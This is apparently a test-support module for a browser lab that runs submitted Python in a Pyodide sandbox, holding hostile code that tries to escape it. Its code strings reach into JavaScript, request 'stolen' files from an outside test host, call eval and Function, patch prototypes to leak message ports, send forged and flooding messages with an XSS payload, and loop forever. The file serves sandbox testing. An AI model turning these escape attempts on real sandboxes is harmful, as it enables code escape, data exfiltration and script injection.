"""Provide hostile code that tries to escape the sandbox around the reader's code."""

import base64
import zlib
from pathlib import Path

from sudoku_core.lab.recording.frames import frame_bytes
from tests.hosts import Host, says

# Attempts in JavaScript; the file lists them.
SCRIPT = (Path(__file__).parent / "worker.js").read_text("utf-8")

# Attempts in Python to reach JavaScript and the function with which the worker posts messages. The code
# makes these attempts on the first puzzle, and solves no puzzle.
ESCAPING_CODE = """
import gc, sys, time

def attempt(name, call):
    try:
        result = call()
        print(name + ": " + ("nothing" if result is None else "REACHED"))
    except BaseException as error:
        print(name + ": refused")

def module(name):
    for each in gc.get_objects():
        if isinstance(each, type(sys)) and each.__name__ == name:
            return each

def javascript():
    for name in list(sys.modules):
        if sys.modules[name] is None:
            del sys.modules[name]
    import js
    return js

def posting():
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if type(value).__name__ in ("JsProxy", "JsCallable"):
                return value
        frame = frame.f_back

def solve(board, found):
    if hasattr(sys, "tried"):  # each puzzle has the code anew, in the same Python
        return
    sys.tried = True
    js, post = javascript(), posting()
    print("has JavaScript", js is not None, "can post", post is not None)
    create_proxy = module("pyodide.ffi").create_proxy
    leaked = []
    leak = create_proxy(lambda *all: leaked.append(all)).captureThis()
    attempt("fetch", lambda: js.fetch(SITE + "stolen.txt") and None)
    request = js.XMLHttpRequest.new()
    request.open("GET", SITE + "stolen.txt", False)
    attempt("XMLHttpRequest", request.send)
    attempt("WebSocket", lambda: js.WebSocket.new(SITE.replace("http", "ws") + "stolen.txt") and None)
    attempt("EventSource", lambda: js.EventSource.new(SITE + "stolen.txt") and None)
    attempt("the constructor of a function", lambda: post.constructor("return globalThis")())
    attempt("Function", lambda: js.Function.new("return 1")())
    attempt("eval", lambda: js.eval("1"))
    attempt("a worker", lambda: js.Worker)
    attempt("a message to the frame", lambda: js.postMessage("ready"))
    attempt("a broadcast", lambda: js.BroadcastChannel)
    attempt("a database", lambda: js.indexedDB.open("stolen"))
    attempt("caches", lambda: js.caches.open("stolen") and None)
    def grow():
        js.WebAssembly.Memory.prototype.grow = None
    attempt("more memory", lambda: grow() or js.WebAssembly.Memory.prototype.grow is None or None)
    for owner, names in (
        (js.MessagePort.prototype, ("postMessage",)),
        (js.Math, ("min", "max")),
        (js.Reflect, ("apply",)),
    ):
        kept = {name: getattr(owner, name) for name in names}
        for name in names:
            attempt("replaces " + name, lambda: setattr(owner, name, leak))
        try:
            post("calls", 7)
        except BaseException:
            pass
        for name in names:
            try:
                setattr(owner, name, kept[name])
            except BaseException:
                pass
    print("ports leaked", len([each for each in leaked if "MessagePort" in str(each)]))
    sys.stdout.flush()
    for facts in (("ready",), ("unwalled",), ("end", 1), ("at", 9), ("verdict", 9, "found", 1, 1),
                  ("found", "9" * 81, 1, 1), ("found", "1", 1, 1), ("calls", -5), ("calls", 2**70),
                  ("printed", "<img src=x onerror=alert(1)>"), ("answer", "import os"),
                  ("refused", "program", "<b>", "<b>", 1e300), ("error",), (), ("run",),
                  ("run", float("inf"), "", 1, 1, 0, 0, b"", b"", b"", b""),
                  ("printed", [1]), ("printed", {})):
        try:
            post(*facts)
        except BaseException:
            pass
    text = "x" * 1000
    for _ in range(10_000):
        try:
            post("printed", text)
        except BaseException:
            pass
    js.setTimeout(create_proxy(lambda: post("found", "1" * 81, 1, 1)), 5)  # after its question
"""

# Code that reports its end again and again, and continues to run.
CODE_THAT_RUNS_ON = """
import sys

def solve(board, found):
    frame = sys._getframe()
    while "post" not in frame.f_locals:
        frame = frame.f_back
    post = frame.f_locals["post"]
    while True:
        post("calls", 1)
        post("end", 1)
        post("at", 3)
"""


def link(code: str) -> str:
    """Return the query of the lab's address for this code."""
    packer = zlib.compressobj(wbits=-15)
    packed = base64.urlsafe_b64encode(packer.compress(code.encode()) + packer.flush())
    return "?code=" + packed.decode().rstrip("=")


def script(host: Host) -> str:
    """Return SCRIPT with the values of this host filled in."""
    script = SCRIPT.replace("http://site.invalid/", host.address)
    return script.replace("FRAME_BYTES = 0", f"FRAME_BYTES = {frame_bytes(False)}")


def lay_bait(host: Host) -> None:
    """Let this host serve the files that the attempts try to load, to every origin."""
    host.headers["Access-Control-Allow-Origin"] = "*"
    for ending in ("txt", "json", "css", "js", "wasm", "woff"):
        host.answers["stolen." + ending] = says("1")


def stolen_requests(host: Host) -> list[str]:
    """Return the requests that only an attempt can have made."""
    return [path for path in host.asked if "stolen" in path]


def successful_attempts(printed: str) -> list[str]:
    """Return the attempts that succeeded."""
    return [line for line in printed.splitlines() if line.endswith("REACHED")]
